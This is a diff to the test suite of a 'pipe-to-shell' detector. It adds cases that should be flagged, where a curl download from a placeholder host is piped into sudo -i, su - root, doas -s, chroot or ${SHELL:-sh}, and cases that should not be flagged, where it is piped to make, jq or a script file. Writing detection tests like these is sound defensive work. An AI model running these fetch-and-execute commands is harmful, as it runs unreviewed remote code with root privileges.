@@ -397,6 +397,15 @@ describe("pipe-to-shell", () => {
     ['curl -o "/dev/stdout" > >(sh)', 'curl -o "/dev/stdout" https://x.example/i.sh > >(sh)'],
     // A pipeline ended by `;` leaves the next download on the line to be read.
     ["curl; curl | sh", "curl -fsS https://x.example/health; curl -fsSL https://x.example/i.sh | sh"],
+    // Regression: a runner given no command runs the user's shell, which reads the download: chroot (`$SHELL
+    // -i`), sudo -s or -i, doas -s, su; and `${SHELL:-sh}` is the user's shell.
+    ["curl | chroot /newroot", "curl -fsSL https://x.example/i.sh | chroot /newroot"],
+    ["curl | sudo -i", "curl -fsSL https://x.example/i.sh | sudo -u root -i"],
+    ["curl | doas -s", "curl -fsSL https://x.example/i.sh | doas -s"],
+    ["curl | sudo su -", "curl -fsSL https://x.example/i.sh | sudo su -"],
+    ["curl | su - root", "curl -fsSL https://x.example/i.sh | su - root"],
+    [`curl | \${SHELL:-sh}`, `curl -fsSL https://x.example/i.sh | \${SHELL:-sh}`],
+    [`curl | "\${SHELL:-/bin/bash}" -s`, `curl -fsSL https://x.example/i.sh | "\${SHELL:-/bin/bash}" -s`],
     // A download read from inside quotes: the quote closing it is no quote opening, and the pipe after it
     // is read (the stages are read from the download on, not from the line's start, which prose may quote).
     ['echo "$(curl)" | sh', 'echo "$(curl -fsSL https://x.example/i.sh)" | sh'],
@@ -530,6 +539,10 @@ describe("pipe-to-shell", () => {
     ["curl | taskset -c 0 make", "curl -s https://x.example/data | taskset -c 0 make"],
     ["curl | runuser -u user -- sh script", "curl -s https://x.example/data | runuser -u me -- sh ./x.sh"],
     // What a runner's operands and options must not make a shell of.
+    ["curl | sudo -s make", "curl -s https://x.example/data | sudo -s make"],
+    ["curl | su root -c make", "curl -s https://x.example/data | su - root -c make"],
+    ["curl | su root script", "curl -s https://x.example/data | su root ./process.sh"],
+    [`curl | \${SHELL:-sh} script`, `curl -s https://x.example/data | \${SHELL:-sh} ./process.sh`],
     ["curl | timeout 10 make", "curl -s https://x.example/data | timeout 10 make"],
     ["curl | timeout 10 sh script", "curl -s https://x.example/data | timeout 10 sh ./process.sh"],
     ["curl | chroot /srv jq", "curl -s https://x.example/data | chroot /srv jq ."],
